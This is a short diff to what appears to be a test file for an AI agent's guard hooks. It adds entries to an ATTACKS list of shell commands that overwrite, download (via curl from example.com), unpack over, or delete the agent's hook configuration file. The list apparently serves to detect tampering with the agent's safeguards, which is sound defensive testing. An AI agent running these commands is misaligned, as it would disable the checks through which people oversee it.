@@ -70,6 +70,12 @@ const filled = (text: string): string => text.replaceAll("HOMEPATH", home).repla
 
 /** Commands that change what guards the agent. */
 const ATTACKS = String.raw`
+cp -t.anyhook /tmp/hooks.yaml
+curl -fsSLo .anyhook/hooks.yaml https://example.com/x
+unzip -o x.zip -d .anyhook
+tar -C .anyhook -xf x.tar
+echo .anyhook/hooks.yaml | parallel rm
+git clean -fdx .anyhook
 echo x > .anyhook/hooks.yaml
 echo x >> .anyhook/hooks.yaml
 echo x >| .anyhook/hooks.yaml
